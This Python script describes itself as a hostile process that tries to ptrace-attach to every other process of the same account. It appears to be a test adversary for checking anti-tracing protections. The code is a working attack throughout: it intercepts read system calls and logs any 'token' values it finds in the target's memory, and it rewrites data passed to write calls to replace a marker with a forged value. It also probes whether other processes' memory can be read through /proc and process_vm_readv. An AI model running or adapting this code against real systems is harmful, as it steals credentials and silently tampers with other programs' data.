"""A hostile process of an account: it tries to trace every other process of that account, for as long as it runs.

Run as `python -I tracer.py LOG MARKER FORGED` as the account in question. LOG gets a line for each thing that worked,
and one `denied PID` for each process that refused everything. A process that it can trace is traced by system calls:
whatever it reads is logged if it holds MARKER, and what it writes has MARKER's twin FORGED put in its place.
"""

from __future__ import annotations

import contextlib
import ctypes
import os
import signal
import struct
import sys
from io import FileIO
from pathlib import Path

_libc = ctypes.CDLL(None, use_errno=True)
_ATTACH, _SYSCALL, _SETOPTIONS, _GET_SYSCALL_INFO = 16, 24, 0x4200, 0x420E
_TRACESYSGOOD = 1
_WALL = 0x40000000
_READ, _WRITE = {"x86_64": (0, 1), "aarch64": (63, 64)}[os.uname().machine]
_ENTRY, _EXIT = 1, 2


class IoVec(ctypes.Structure):
    """struct iovec."""

    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def ptrace(request: int, pid: int, address: int = 0, data: int = 0) -> int:
    """Call ptrace(2). Raises OSError."""
    done: int = _libc.ptrace(
        ctypes.c_long(request), ctypes.c_long(pid), ctypes.c_void_p(address), ctypes.c_void_p(data)
    )
    if done < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return done


def can_read_memory(pid: int) -> bool:
    """Tell whether the kernel lets this process read the memory of `pid`, by process_vm_readv(2) or /proc/PID/mem."""
    buffer = ctypes.create_string_buffer(8)
    ours = IoVec(ctypes.cast(buffer, ctypes.c_void_p), 8)
    theirs = IoVec(ctypes.c_void_p(4096), 8)
    done = _libc.process_vm_readv(ctypes.c_int(pid), ctypes.byref(ours), ctypes.c_ulong(1), ctypes.byref(theirs),
                                  ctypes.c_ulong(1), ctypes.c_ulong(0))  # fmt: skip
    if done >= 0 or ctypes.get_errno() == 14:  # EFAULT: allowed, and no such address
        return True
    with contextlib.suppress(OSError):
        os.close(os.open(f"/proc/{pid}/mem", os.O_RDONLY))
        return True
    return False


class Tracer:
    """Its attempts and their outcomes."""

    def __init__(self, log: str, marker: bytes, forged: bytes) -> None:
        self._log = os.open(log, os.O_WRONLY | os.O_APPEND)
        self._marker, self._forged = marker, forged
        self._denied: set[int] = set()
        self._beaten: set[int] = set()

    def say(self, text: str) -> None:
        """Write one line."""
        os.write(self._log, text.encode() + b"\n")

    def run(self) -> None:
        """Try, for ever."""
        ours = os.getuid()
        self.say("ready")
        while True:
            for name in os.listdir("/proc"):
                if name.isdigit() and int(name) != os.getpid() and _uid_of(name) == ours:
                    self._try(int(name))

    def _try(self, pid: int) -> None:
        if pid in self._beaten:
            return
        try:
            ptrace(_ATTACH, pid)
        except ProcessLookupError:
            return
        except OSError:
            if can_read_memory(pid):
                self._beaten.add(pid)
                self.say(f"memory {pid} {_command(pid)}")
            elif pid not in self._denied and _alive(pid):
                self._denied.add(pid)
                self.say(f"denied {pid} {_command(pid)}")
            return
        self._beaten.add(pid)
        self.say(f"attached {pid} {_command(pid)}")
        os.waitpid(pid, _WALL)
        with contextlib.suppress(OSError), open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
            self._follow(pid, memory)

    def _follow(self, pid: int, memory: FileIO) -> None:
        """Trace its system calls. `memory` stays open: after the prctl it could not be opened again."""
        ptrace(_SETOPTIONS, pid, 0, _TRACESYSGOOD)
        deliver, call = 0, (0, 0, 0)
        info = ctypes.create_string_buffer(96)
        while True:
            ptrace(_SYSCALL, pid, 0, deliver)
            _, status = os.waitpid(pid, _WALL)
            if not os.WIFSTOPPED(status):
                self.say(f"ended {pid}")
                return
            deliver = os.WSTOPSIG(status)
            if deliver == signal.SIGTRAP | 0x80:
                deliver = 0
                ptrace(_GET_SYSCALL_INFO, pid, len(info), ctypes.addressof(info))
                if info.raw[0] == _ENTRY:
                    number, _, address, size = struct.unpack_from("4Q", info.raw, 24)
                    call = (number, address, size)
                    if number == _WRITE:
                        self._forge(pid, memory, address, size)
                elif info.raw[0] == _EXIT and call[0] == _READ:
                    self._look(memory, call[1], max(struct.unpack_from("q", info.raw, 24)[0], 0))
            elif deliver == signal.SIGSTOP:
                deliver = 0

    def _look(self, memory: FileIO, address: int, size: int) -> None:
        memory.seek(address)
        data = memory.read(min(size, 1 << 20))
        at = data.find(b'"token": "')
        if at >= 0:
            token = data[at + 10 :].partition(b'"')[0]
            self.say(f"token {token.decode()}")

    def _forge(self, pid: int, memory: FileIO, address: int, size: int) -> None:
        memory.seek(address)
        data = memory.read(min(size, 1 << 20))
        if self._marker in data:
            memory.seek(address)
            memory.write(data.replace(self._marker, self._forged))
            self.say(f"forged {pid}")


def _uid_of(name: str) -> int:
    with contextlib.suppress(OSError, ValueError, IndexError):
        text = Path("/proc", name, "status").read_text()
        return int(text.partition("\nUid:")[2].split()[0])
    return -1


def _alive(pid: int) -> bool:
    with contextlib.suppress(OSError):
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] not in {"Z", "X"}
    return False


def _command(pid: int) -> str:
    with contextlib.suppress(OSError):
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace").strip()[-60:]
    return ""


if __name__ == "__main__":
    Tracer(sys.argv[1], sys.argv[2].encode(), sys.argv[3].encode()).run()
